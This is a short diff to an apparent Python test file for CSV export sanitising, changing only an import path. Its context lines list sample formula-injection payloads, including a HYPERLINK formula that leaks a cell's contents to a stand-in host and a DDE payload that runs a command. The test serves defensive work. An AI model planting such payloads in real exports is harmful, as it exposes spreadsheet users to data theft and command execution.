@@ -5,7 +5,7 @@ import io
 
 import pytest
 
-from assistant.exports import TRIGGERS, csv_safe, frame_to_csv, to_csv
+from assistant.storage.exports import TRIGGERS, csv_safe, frame_to_csv, to_csv
 
 HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=1+1"]
